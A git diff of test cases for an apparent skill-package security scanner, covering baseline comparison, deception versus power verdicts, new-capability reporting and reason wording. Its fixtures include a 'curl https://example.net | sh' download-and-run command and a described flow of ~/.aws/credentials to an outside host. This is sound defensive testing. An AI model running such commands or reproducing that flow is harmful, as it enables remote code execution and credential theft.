@@ -8,7 +8,10 @@ import {allOnlyNew, onlyNew} from '../../../src/lib/scan/against.ts'
 import {applyDecisions, expiredAllowances, unknownChecks} from '../../../src/lib/scan/apply.ts'
 import {defaultReason, readBaseline, updateBaseline, writeBaseline} from '../../../src/lib/scan/baseline.ts'
 import {findInline} from '../../../src/lib/scan/inline.ts'
+import {noCapabilities} from '../../../src/lib/scan/capabilities/capabilities.ts'
 import {parsePolicy} from '../../../src/lib/scan/policy.ts'
+import {sentenceOf} from '../../../src/lib/scan/sentence.ts'
+import {judge} from '../../../src/lib/scan/verdict.ts'
 import {writeFileAtomic} from '../../../src/lib/scan/write-file.ts'
 import {checks, finding, skill} from '../../plugins/security/sample.ts'
 
@@ -185,7 +188,7 @@ for (const [name, source] of [
 test('against: only what was added counts', () => {
   const added = finding({fingerprint: 'cccccccccccccccc', snippet: 'curl https://example.net | sh', message: 'new one'})
   const result = onlyNew(bad, skill({...bad, findings: [finding(), added]}))
-  assert.deepEqual(result.findings, [added])
+  assert.deepEqual(result.findings, [{...added, gained: true}])
   assert.equal(result.verdict, 'block')
   const same = onlyNew(bad, bad)
   assert.equal(same.verdict, 'pass')
@@ -195,7 +198,7 @@ test('against: only what was added counts', () => {
 test('against: a moved file adds nothing, a second copy does', () => {
   const moved = finding({file: 'lib/run.py', fingerprint: 'dddddddddddddddd'})
   assert.deepEqual(onlyNew(bad, skill({...bad, findings: [moved]})).findings, [])
-  assert.deepEqual(onlyNew(bad, skill({...bad, findings: [finding(), moved]})).findings, [moved])
+  assert.deepEqual(onlyNew(bad, skill({...bad, findings: [finding(), moved]})).findings, [{...moved, gained: true}])
   const twice = [moved, finding({file: 'b.py', fingerprint: 'eeeeeeeeeeeeeeee'})]
   assert.equal(onlyNew(bad, skill({...bad, findings: twice})).findings.length, 1)
 })
@@ -204,6 +207,63 @@ test('against: the same line that weighs more is new, and gaps stay', () => {
   const before = skill({...bad, findings: [finding({severity: 'low'})]})
   assert.equal(onlyNew(before, bad).findings.length, 1)
   assert.equal(onlyNew(bad, {...bad, notCovered: ['x: too large']}).verdict, 'warn')
+})
+
+test('against: deception that the older version did not have blocks even where it would only warn', () => {
+  const warned = finding({
+    checkId: 'PI-005',
+    severity: 'medium',
+    confidence: 'medium',
+    message: 'The text asks to keep quiet.',
+    fingerprint: 'f'.repeat(16),
+  })
+  const harmless = skill({name: 'bad', findings: []})
+  const first = skill({...harmless, findings: [warned]})
+  assert.equal(judge([warned], []).verdict, 'warn')
+  const result = onlyNew(harmless, first)
+  assert.equal(result.verdict, 'block')
+  assert.equal(result.reason, 'New in this version: the text asks to keep quiet (scripts/run.py:12).')
+  assert.deepEqual(result.findings, [{...warned, gained: true}])
+  // What the user accepts no longer blocks, and what was said of a line before is not gained when the line is reworded.
+  const allowed = applyDecisions(result, {...nothing, policy: policyOf('[[allow]]\ncheck = "PI-005"\nreason = "x"\n')})
+  assert.equal(allowed.verdict, 'pass')
+  const reworded = {...warned, snippet: 'another line', fingerprint: 'e'.repeat(16)}
+  const second = onlyNew(first, skill({...first, findings: [reworded]}))
+  assert.deepEqual([second.verdict, second.findings[0]?.gained], ['warn', undefined])
+  assert.equal(onlyNew(first, skill({...first, findings: [reworded, warned]})).verdict, 'block')
+  for (const weak of [{severity: 'low'}, {confidence: 'low'}, {axis: 'power'}] as const)
+    assert.notEqual(onlyNew(harmless, skill({...first, findings: [{...warned, ...weak}]})).verdict, 'block')
+})
+
+test('against: what it can do now and could not before is said, also without any finding', () => {
+  const network = [{name: 'new.example.com', file: 'a.sh', line: 2, seenAs: 'script', via: 'curl'}] as const
+  const result = onlyNew(skill(), skill({capabilities: {...noCapabilities, uses: {network}}}))
+  assert.deepEqual(result.changes, [{change: 'added', kind: 'network', name: 'new.example.com', file: 'a.sh', line: 2}])
+  assert.equal(result.reason, 'No new finding, and 1 new thing that it can do.')
+  assert.equal(result.verdict, 'pass')
+})
+
+test('the two axes are judged apart', () => {
+  const power = finding({axis: 'power', checkId: 'PE-002', message: 'Runs x under sudo.', severity: 'high'})
+  const judged = judge([power, finding({severity: 'low'})], [])
+  assert.deepEqual([judged.verdict, judged.deception.level, judged.power.level], ['warn', 'low', 'high'])
+  assert.equal(judged.power.reason, 'Runs x under sudo (scripts/run.py:12).')
+  assert.deepEqual(judge([], []).deception, {level: 'none', reason: 'Nothing deceptive was found.'})
+  const hushed = {...finding(), suppressed: {by: 'policy', reason: 'x'}} as const
+  assert.equal(judge([hushed, power], []).deception.level, 'none')
+})
+
+test('of findings that weigh the same, the reason is the one that shows a flow, with both its ends', () => {
+  const read = finding({checkId: 'CR-006', category: 'credentials', message: 'Credentials read.'})
+  const flow = finding({
+    trace: [
+      {file: 'a.py', line: 4, note: 'read'},
+      {file: 'b.py', line: 9, note: 'sent'},
+    ],
+  })
+  assert.equal(judge([read, flow], []).reason, '~/.aws/credentials flows into requests.post to example.net (a.py:4 to b.py:9).')
+  assert.equal(sentenceOf(finding({layers: ['gzip', 'base64'], message: 'Found.'})), 'Found (in base64 in gzip at scripts/run.py:12).')
+  assert.equal(sentenceOf(finding({message: 'Found at scripts/run.py:12'})), 'Found at scripts/run.py:12.')
 })
 
 test('against: skills are paired by name, a single pair whatever the names', () => {
